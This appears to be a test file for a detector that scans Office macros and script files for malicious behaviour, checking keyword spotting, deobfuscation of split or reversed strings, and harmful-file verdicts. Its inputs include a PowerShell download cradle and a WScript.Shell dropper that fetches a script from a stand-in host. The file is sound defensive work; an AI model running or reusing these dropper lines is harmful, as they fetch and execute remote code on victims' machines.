import { describe, expect, test } from 'vitest';
import { findWords } from '#core/inspect/macros/find-words.ts';
import { foldStrings } from '#core/inspect/macros/fold-strings.ts';
import { judge } from '#core/inspect/macros/judge.ts';
import { readMacros } from '#core/inspect/macros/read-macros.ts';
import { processorTime } from '../../processor-time.ts';
import { bytes } from '../draft/support/a-mail.ts';
import { inspectFile } from './writers/inspect-file.ts';

describe('the words of a macro', () => {
  test.each<[string, string, readonly string[]]>([
    ['that run by themselves, in whatever case', 'private sub WORKBOOK_OPEN()', ['Workbook_Open']],
    ['that a control calls', 'Sub InkPicture1_Painted(ByVal h)', ['InkPicture1_Painted']],
    ['that start something', 'x = Shell("calc.exe")\nobj.ShellExecute y', ['Shell', 'ShellExecute']],
    ['of two names', 'New MSXML2.XMLHTTP', ['MSXML2.XMLHTTP', 'XMLHTTP']],
    ['behind each other', 'Open f For Binary As #1: Put #1, , b', ['For Binary', 'Put #']],
    ['with a hyphen', 'iex (New-Object Net.WebClient).DownloadString', ['IEX', 'Net.WebClient', 'DownloadString']],
    ['that declare what Windows has', 'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32"', ['Declare PtrSafe', 'VirtualAlloc']],
  ])('%s are found', (_, source, keywords) => {
    expect(findWords(source).map(({ keyword }) => keyword)).toEqual(keywords);
  });

  test('are whole words, and a button that is clicked is no event without its procedure', () => {
    expect(findWords('Shellfish = 1: Marshell: MyAutoOpenNot = constructor: __proto__ = toString: Call Button1_Click')).toEqual([]);
  });
});

describe('the texts that a macro puts together', () => {
  test.each<[string, string, string]>([
    ['of pieces', 'x = "ht" & "tp://" + "evil.example"', 'http://evil.example'],
    ['of numbers', 'x = Chr(104) & ChrW$(&H74) & Chr$( 116 ) & "p:"', 'http:'],
    ['over lines', 'x = "http://" & _\r\n    "evil.example"', 'http://evil.example'],
    ['turned around', 'x = StrReverse("elpmaxe.live//:ptth")', 'http://evil.example'],
    ['with quotes in them', 'x = "say ""hello" & """"', 'say "hello"'],
    ['with quotes at both ends', 'x = """a""" & "" & "b"', '"a"b'],
  ])('%s are written out', (_, source, text) => {
    expect(foldStrings(source, true)).toBe(text);
  });

  test('of a script are those between apostrophes, too', () => {
    expect(foldStrings("var a = 'ht' + 'tp:' + '//x'; String.fromCharCode(104, 116,116,112)", false)).toBe('http://x\nhttp');
  });

  test('are not what stands in one piece or beside each other', () => {
    expect(foldStrings('MsgBox "hello", "there": x = "one" \' "a" & b', true)).toBe('');
    expect(foldStrings('x = "say ""hello"""', true)).toBe('');
  });
});

test('what runs by itself and does something is harmful; either alone is not', () => {
  const verdictOf = (source: string) => judge(readMacros([source], 'vba').warnings);
  expect(verdictOf('Sub AutoOpen()\nShell "x"')).toBe('harmful');
  expect(verdictOf('Sub AutoOpen()\nURLDownloadToFile 0, a, b')).toBe('harmful');
  expect(verdictOf('Sub AutoOpen()\nMsgBox 1')).toBe('clean');
  expect(verdictOf('Sub Report()\nShell "x"')).toBe('clean');
});

describe('a script', () => {
  const DROPPER = 'var s = new ActiveXObject("WScript.Shell"); s.Run("pow" + "ershell http://evil-host.com/a.ps1");';

  test.each(['invoice.pdf.js', 'a.VBS', 'b.wsf', 'c.ps1'])(
    'called %s runs when it is opened, and is told of where it starts something',
    async (name) => {
      const content = await inspectFile(bytes(DROPPER), name);
      expect(content.notices).toMatchObject([
        { code: 'file_harmful', details: { file: name, names: expect.stringContaining('WScript.Shell') } },
      ]);
      expect(content.texts).toContain('powershell http://evil-host.com/a.ps1');
    },
  );

  test('in a page is a page, unless it is an HTA', async () => {
    const page = bytes(`<html><body>Hello<script>${DROPPER}</script></body></html>`);
    expect((await inspectFile(page, 'a.html')).notices).toEqual([]);
    expect((await inspectFile(page, 'a.hta')).notices).toMatchObject([{ code: 'file_harmful' }]);
  });

  test('is a text like any other by another name', async () => {
    expect((await inspectFile(bytes(DROPPER), 'notes.txt')).warnings).toEqual([]);
  });
});

test.each([
  ['quotes', '"'],
  ['pieces', '"a" & '],
  ['open calls', 'StrReverse("'],
  ['open lists of numbers', 'fromCharCode(1,'],
  ['apostrophes', "' "],
  ['words', 'Shell.'],
  ['addresses', 'http://a'],
  ['names of programs', 'a.exe.'],
  ['blanks', 'Chr(  '],
])('half a million %s are read in a moment', (_, piece) => {
  const source = piece.repeat(Math.ceil(500_000 / piece.length));
  const started = processorTime();
  readMacros([source], 'vba');
  expect(processorTime() - started).toBeLessThan(1500);
});

test.each([
  ['a literal', `x = "${'a'.repeat(14_000_000)}" : Shell "x"`],
  ['quotes in a literal', `x = "${'""'.repeat(7_000_000)}" : Shell "x"`],
  ['a name of many parts', `x = ${'a.b-'.repeat(3_500_000)}c : Shell "x"`],
])('behind %s of fourteen million characters a word is still seen', (_, source) => {
  expect(readMacros([source], 'vba').warnings.map(({ keyword }) => keyword)).toContain('Shell');
});

test('one word of four million letters is read in a moment', () => {
  const started = processorTime();
  expect(readMacros(['a'.repeat(4_000_000)], 'vba').warnings).toEqual([]);
  expect(processorTime() - started).toBeLessThan(1500);
});
